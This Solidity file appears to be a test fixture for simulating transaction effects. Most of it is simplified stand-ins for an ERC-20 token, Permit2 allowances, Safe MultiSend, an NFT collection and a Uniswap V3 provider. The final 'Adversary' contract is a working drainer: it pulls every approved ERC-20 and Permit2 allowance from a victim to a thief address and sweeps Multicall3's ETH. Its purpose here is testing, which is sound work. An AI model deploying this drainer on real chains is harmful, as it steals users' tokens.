// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// The world in which effects are held against what an EVM really does: honest contracts that stand where known ones do, and one
/// that takes whatever it can.

interface IToken {
    function balanceOf(address holder) external view returns (uint256);
    function allowance(address owner, address spender) external view returns (uint256);
    function transfer(address to, uint256 value) external returns (bool);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

/// ERC-20 with the two functions by which allowances are changed step by step. The test mints.
contract LedgerToken {
    address private constant MINTER = address(0xBEEF);
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 value) external {
        require(msg.sender == MINTER, "not the test");
        balanceOf[to] += value;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        return true;
    }

    function increaseAllowance(address spender, uint256 added) external returns (bool) {
        allowance[msg.sender][spender] += added;
        return true;
    }

    function decreaseAllowance(address spender, uint256 subtracted) external returns (bool) {
        allowance[msg.sender][spender] -= subtracted;
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        balanceOf[msg.sender] -= value;
        balanceOf[to] += value;
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (from != msg.sender && allowed != type(uint256).max) allowance[from][msg.sender] = allowed - value;
        balanceOf[from] -= value;
        balanceOf[to] += value;
        return true;
    }
}

/// The part of Permit2 that needs no signature: allowances with an end, and transfers by them.
contract AllowanceTransfer {
    struct Detail {
        address from;
        address to;
        uint160 amount;
        address token;
    }

    struct Pair {
        address token;
        address spender;
    }

    struct Allowed {
        uint160 amount;
        uint48 expiration;
        uint48 nonce;
    }

    mapping(address => mapping(address => mapping(address => Allowed))) public allowance;

    function approve(address token, address spender, uint160 amount, uint48 expiration) external {
        Allowed storage allowed = allowance[msg.sender][token][spender];
        allowed.amount = amount;
        allowed.expiration = expiration == 0 ? uint48(block.timestamp) : expiration;
    }

    function transferFrom(address from, address to, uint160 amount, address token) external {
        move(Detail(from, to, amount, token));
    }

    function transferFrom(Detail[] calldata details) external {
        for (uint256 index = 0; index < details.length; index++) move(details[index]);
    }

    function lockdown(Pair[] calldata pairs) external {
        for (uint256 index = 0; index < pairs.length; index++) {
            allowance[msg.sender][pairs[index].token][pairs[index].spender].amount = 0;
        }
    }

    function move(Detail memory detail) private {
        Allowed storage allowed = allowance[detail.from][detail.token][msg.sender];
        require(block.timestamp <= allowed.expiration, "expired");
        if (allowed.amount != type(uint160).max) allowed.amount -= detail.amount;
        require(IToken(detail.token).transferFrom(detail.from, detail.to, detail.amount), "not moved");
    }
}

/// Packed calls in a row, as Safe's MultiSendCallOnly makes them: operation(1), to(20), value(32), length(32), data.
contract CallsInARow {
    function multiSend(bytes memory packed) external payable {
        uint256 at = 0;
        while (at < packed.length) {
            uint8 operation;
            address to;
            uint256 value;
            uint256 length;
            assembly {
                let start := add(add(packed, 32), at)
                operation := shr(248, mload(start))
                to := shr(96, mload(add(start, 1)))
                value := mload(add(start, 21))
                length := mload(add(start, 53))
            }
            require(operation == 0, "calls only");
            bytes memory data = new bytes(length);
            for (uint256 index = 0; index < length; index++) data[index] = packed[at + 85 + index];
            (bool isDone,) = to.call{value: value}(data);
            require(isDone, "a call failed");
            at += 85 + length;
        }
    }

    receive() external payable {}
}

/// A collection that asks whoever gets a token safely, and belongs to somebody.
contract Collection {
    address public owner;
    mapping(uint256 => address) public ownerOf;
    mapping(uint256 => address) public getApproved;
    mapping(address => mapping(address => bool)) public isApprovedForAll;

    function give(address to, uint256 first, uint256 last) external {
        require(msg.sender == address(0xBEEF), "not the test");
        for (uint256 id = first; id <= last; id++) ownerOf[id] = to;
        owner = to;
    }

    function transferOwnership(address next) external {
        require(msg.sender == owner, "not the owner");
        owner = next;
    }

    function approve(address spender, uint256 id) external {
        require(ownerOf[id] == msg.sender || isApprovedForAll[ownerOf[id]][msg.sender], "not allowed");
        getApproved[id] = spender;
    }

    function setApprovalForAll(address operator, bool approved) external {
        isApprovedForAll[msg.sender][operator] = approved;
    }

    function transferFrom(address from, address to, uint256 id) public {
        bool isAllowed = msg.sender == from || getApproved[id] == msg.sender || isApprovedForAll[from][msg.sender];
        require(ownerOf[id] == from && isAllowed, "not allowed");
        getApproved[id] = address(0);
        ownerOf[id] = to;
    }

    function safeTransferFrom(address from, address to, uint256 id) external {
        safeTransferFrom(from, to, id, "");
    }

    function safeTransferFrom(address from, address to, uint256 id, bytes memory data) public {
        transferFrom(from, to, id);
        if (to.code.length == 0) return;
        (bool isDone,) = to.call(abi.encodeWithSelector(0x150b7a02, msg.sender, from, id, data));
        require(isDone, "not taken");
    }
}

interface IPool {
    function mint(address recipient, int24 lower, int24 upper, uint128 amount, bytes calldata data)
        external
        returns (uint256, uint256);
    function token0() external view returns (address);
    function token1() external view returns (address);
}

/// Puts liquidity into a pool of Uniswap V3 from what it holds itself.
contract Provider {
    function provide(IPool pool, int24 lower, int24 upper, uint128 amount) external {
        pool.mint(address(this), lower, upper, amount, "");
    }

    function uniswapV3MintCallback(uint256 amount0, uint256 amount1, bytes calldata) external {
        if (amount0 > 0) IToken(IPool(msg.sender).token0()).transfer(msg.sender, amount0);
        if (amount1 > 0) IToken(IPool(msg.sender).token1()).transfer(msg.sender, amount1);
    }
}

interface IShared {
    struct Call3Value {
        address target;
        bool allowFailure;
        uint256 value;
        bytes callData;
    }

    function aggregate3Value(Call3Value[] calldata calls) external payable;
}

/// Whatever it is called as, and whenever it is paid, it takes all that the victim ever allowed it, and what others left lying about.
contract Adversary {
    address private immutable victim;
    address private immutable thief;
    address private immutable first;
    address private immutable second;
    address private immutable third;
    address private constant PERMIT2 = 0x000000000022D473030F116dDEE9F6B43aC78BA3;
    address private constant MULTICALL3 = 0xcA11bde05977b3631167028862bE2a173976CA11;

    constructor(address victim_, address thief_, address first_, address second_, address third_) {
        victim = victim_;
        thief = thief_;
        first = first_;
        second = second_;
        third = third_;
    }

    receive() external payable {
        take();
    }

    fallback() external payable {
        take();
        // "true", where a token is expected.
        assembly {
            mstore(0, 1)
            return(0, 32)
        }
    }

    function take() private {
        takeToken(first);
        takeToken(second);
        takeToken(third);
        if (MULTICALL3.balance == 0) return;
        IShared.Call3Value[] memory calls = new IShared.Call3Value[](1);
        calls[0] = IShared.Call3Value(thief, true, MULTICALL3.balance, "");
        (bool isDone,) = MULTICALL3.call(abi.encodeCall(IShared.aggregate3Value, (calls)));
        isDone;
    }

    function takeToken(address token) private {
        uint256 held = IToken(token).balanceOf(victim);
        uint256 allowed = IToken(token).allowance(victim, address(this));
        uint256 most = allowed < held ? allowed : held;
        bool isDone;
        if (most > 0) (isDone,) = token.call(abi.encodeCall(IToken.transferFrom, (victim, thief, most)));
        (uint160 through,,) = AllowanceTransfer(PERMIT2).allowance(victim, token, address(this));
        held = IToken(token).balanceOf(victim);
        uint160 rest = through < held ? through : uint160(held);
        if (rest == 0) return;
        (isDone,) = PERMIT2.call(
            abi.encodeWithSignature("transferFrom(address,address,uint160,address)", victim, thief, rest, token)
        );
    }
}
